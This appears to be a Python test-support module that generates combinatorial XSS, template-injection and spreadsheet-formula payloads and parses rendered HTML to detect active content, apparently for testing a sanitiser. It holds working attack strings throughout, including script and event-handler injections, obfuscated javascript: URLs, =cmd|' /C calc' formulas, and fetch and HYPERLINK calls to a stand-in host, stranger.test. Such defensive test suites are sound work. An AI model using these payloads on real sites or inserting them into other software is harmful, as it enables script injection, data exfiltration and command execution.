"""Texts that try to run as something else, made by families, and what a browser would find active in an answer.

A payload announces itself by `alert(…)` or by a request to a host below `STRANGER`: what runs is a dialog or a request.
"""

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import product
from urllib.parse import urlsplit

from tests.hostile_singles import cells, singles

STRANGER = "stranger.test"
SCRIPT = f"<script>alert(1);fetch('http://{STRANGER}/s')</script>"

# --- The families ---------------------------------------------------------------------------------------------------

_TAGS = (
    *("script", "img", "svg", "iframe", "object", "embed", "video", "audio", "body", "html", "style", "link", "meta"),
    *("base", "form", "input", "button", "textarea", "select", "details", "marquee", "math", "template", "noscript"),
    *("title", "xmp", "plaintext", "frameset", "applet", "portal", "dialog", "canvas", "x-own"),
)
_ATTRIBUTES = (
    " onload=alert(1)",
    " src=x onerror=alert(1)",
    "/onfocus=alert(1)//autofocus tabindex=0",
    f"\tsrc='http://{STRANGER}/t'",
    ' style="background:url(http://stranger.test/c)" onmouseover="alert(1)"',
    "\nONTOGGLE = 'alert(1)' open",
)
_SCHEMES = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
)
_DISGUISES = (
    lambda s: s,
    lambda s: "".join(c.upper() if i % 2 else c for i, c in enumerate(s)),
    lambda s: s.replace(":", "&#58;"),
    lambda s: s.replace(":", "&colon;"),
    lambda s: "".join(f"&#x{ord(c):x};" for c in s),
    lambda s: "".join(f"&#{ord(c):07}" for c in s),
    lambda s: s[:4] + "\t" + s[4:],
    lambda s: s[:4] + "&Tab;" + s[4:],
    lambda s: s[:4] + "\n" + s[4:],
    lambda s: "\x01 " + s,
    lambda s: s[:4] + "\u200b" + s[4:],
    lambda s: s.replace("a", "%61"),
    lambda s: s.replace(":", "\uff1a"),
    lambda s: s.replace("(", "\\(").replace(":", "\\:"),
    lambda s: f"https:{s}",
    lambda s: f"//{STRANGER}/{s}",
)  # fmt: skip
_CARRIERS = (
    "[go]({})",
    "[go](<{}>)",
    '[go]({} "title\' onclick=alert(1)")',
    "![see]({})",
    "[go][1]\n\n[1]: {}",
    "<{}>",
    "<a href='{}'>go</a>",
    '[![in]({0})]({0} "x")',
)
_ENDS = (
    *('"', "'", '">', "'>", "</p>", "</title>", "</textarea>", "</style>", "</script>", "</svg>", "</math>", "</a>"),
    *(
        "-->",
        "]]>",
        "</option></select>",
        "</td></tr></table>",
        "</code></pre>",
        "\u2028",
        "\\",
        '\\"',
        "`",
        "%}",
        "}}",
    ),
)
_STARTS = (
    "<!--",
    "<![CDATA[",
    "<?php ",
    "<!doctype x ",
    "<%",
    "{{ ",
    "{% ",
    "${",
    "<!ENTITY x '",
    "&lt;",
    "+ADw-",
    "\ufeff",
)
_AROUND = (
    "{}",
    "```\n{}\n```",
    "    {}",
    "> {}",
    "* {}",
    "# {}",
    "| {} | x |\n|---|---|\n| y | {} |",
    "`{}`",
    "**{}**",
    "[{}](https://example.org)",
    "{{withheld:1}}{}",
    "\ue000{}\ue001",
    '[x](https://example.org "{}")',
    "[x]: https://example.org '{}'\n[x]",
    "{}\n===",
    "![{}](https://example.org/a.png)",
)
_TRICKS = (
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src='1' onerror='alert(1)' <b>x",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)><a><text>x",
    "<svg><foreignObject><iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<a href=\"https://example.org\"onclick=alert(1)>x</a>",
    "<a target=_blank ping=//stranger.test href=//stranger.test>x",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=http://stranger.test/m'>",
    "<base href=//stranger.test/>",
    "<link rel=stylesheet href=//stranger.test/l.css>",
    "<style>@import'//stranger.test/i.css'</style>",
    "<input type=image src=x formaction=javascript:alert(1) onerror=alert(1)>",
    "<button form=x formaction=javascript:alert(1)>x",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<div id=x style=width:expression(alert(1))>",
    "<xml id=x><x><![CDATA[<img src=x onerror=alert(1)>]]></x></xml>",
    "<a href=j&#97;v&#97;script&#x3A;alert(1)>x</a>",
    "[a](j a v a s c r i p t:alert(1))",
    "[a](javascript://example.org/%0Aalert(1))",
    "[a](https://example.org\" onmouseover=\"alert(1))",
    "[a](https://user:pass@stranger.test@example.org)",
    "![a\"onerror=\"alert(1)](x)",
    "![a](x\"onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "<http://stranger.test\"onmouseover=alert(1)>",
    "[![x](javascript:alert(1))](javascript:alert(1) '')",
    "{{7*7}}{% debug %}${7*7}#{7*7}<%= 7*7 %>",
    "{{ request }}{% include '/etc/passwd' %}{% load l10n %}",
    "\u202e<tpircs>\u202c",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "\\<script\\>alert(1)\\</script\\>",
    "a\rb\r\nBcc: everybody@stranger.test\r\n\r\n<script>alert(1)</script>",
)  # fmt: skip
_FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1"),
    "=HYPERLINK(\"http://stranger.test/?\"&A1,\"x\")",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@WEBSERVICE(\"http://stranger.test\")",
    '"=1+1',
    '";=1+1;"',
    "plain;=1+1",
    "plain\t=1+1",
    "plain\n=1+1",
    "plain\r\n  @SUM(1)",
    "plain|+1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "'=1+1",
)  # fmt: skip


def payloads() -> list[str]:
    """Every payload once, in an order that never changes."""
    families = (*_tags(), *_links(), *_ends(), *_surrounded())
    return list(dict.fromkeys([*families, *_TRICKS, *_FORMULAS, *singles()]))


def addresses() -> list[str]:
    """Hostile addresses, for fields that hold an address and nothing else."""
    return [disguise(scheme) for scheme, disguise in product(_SCHEMES, _DISGUISES)]


def formulas() -> list[str]:
    return [*_FORMULAS, *cells()]


def _tags() -> Iterator[str]:
    for tag, attribute in product(_TAGS, _ATTRIBUTES):
        yield f"<{tag}{attribute}>x</{tag}>"


def _links() -> Iterator[str]:
    for address, carrier in product(addresses(), _CARRIERS):
        yield carrier.format(address)


def _ends() -> Iterator[str]:
    yield from (end + SCRIPT for end in _ENDS)
    yield from (start + SCRIPT for start in _STARTS)


def _surrounded() -> Iterator[str]:
    for around, one in product(_AROUND, (SCRIPT, "<img src=x onerror=alert(1)>", "\"onmouseover='alert(1)'")):
        yield around.format(one, one)


# --- What a browser would find active -------------------------------------------------------------------------------

# Of the project's own pages; a text must not bring another one in.
_PAGE_TAGS = """html head title meta link script body header main footer nav section article aside div span p a ul ol
    li dl dt dd h1 h2 h3 h4 h5 h6 table caption thead tbody tfoot tr th td form fieldset legend label input select option
    optgroup textarea button details summary figure figcaption blockquote pre code em strong b i s ins del time abbr small
    sup sub br hr mark svg g path rect circle line polyline polygon text tspan desc defs use symbol pattern clippath
    noscript output kbd var q cite template bdi"""
OWN_PICTURES = ("/static/admin/img/", "/badges/")  # icons of the admin site, badges; a picture from elsewhere is found
PAGE_TAGS = frozenset(_PAGE_TAGS.split())
_ADDRESSES = frozenset(
    ("href", "src", "action", "formaction", "data", "srcset", "poster", "background", "xlink:href", "cite", "ping")
)
_LOADED = frozenset(("src", "srcset", "data", "poster", "background"))
_SILENT = re.compile(r"[\x00-\x20\u00ad\u200b-\u200f\ufeff]")


class Active(HTMLParser):
    """Reads an HTML text and keeps a sentence for everything that would act or load on its own."""

    def __init__(self, html: str, tags: frozenset[str] | set[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed = tags
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        is_own = tag == "img" and (dict(attrs).get("src") or "").startswith(OWN_PICTURES)
        if tag not in self.allowed and not is_own:
            self.found.append(f"<{tag}>")
        rel = dict(attrs).get("rel")
        for name, value in attrs:
            if rel not in ("canonical", "alternate"):  # a page's own name, which nothing loads or opens
                self._attribute(tag, name, value or "", loads=name in _LOADED or tag in ("link", "use"))
        if tag == "script" and not dict(attrs).get("src") and dict(attrs).get("type") != "application/json":
            self.found.append("a script in the page")
        if tag == "meta" and "http-equiv" in dict(attrs):
            self.found.append(f"<meta {attrs}>")

    def _attribute(self, tag: str, name: str, value: str, *, loads: bool) -> None:
        if name.startswith("on") or name in ("srcdoc", "style", "http-equiv"):
            self.found.append(f"<{tag} {name}={value}>")
        if name in _ADDRESSES and not _harmless(value, is_loaded=loads):
            self.found.append(f"<{tag} {name}={value}>")


def _harmless(address: str, *, is_loaded: bool) -> bool:
    """Relative, http, https or mail; what the page loads by itself comes from its own host."""
    plain = _SILENT.sub("", address).replace("\\", "/")
    try:
        parts = urlsplit(plain)
    except ValueError:
        return True  # no browser goes there
    if is_loaded:
        return not parts.scheme and not parts.netloc
    return parts.scheme.lower() in ("", "http", "https", "mailto")


def active_in(html: str, tags: frozenset[str] | set[str] = PAGE_TAGS) -> list[str]:
    return Active(html, tags).found
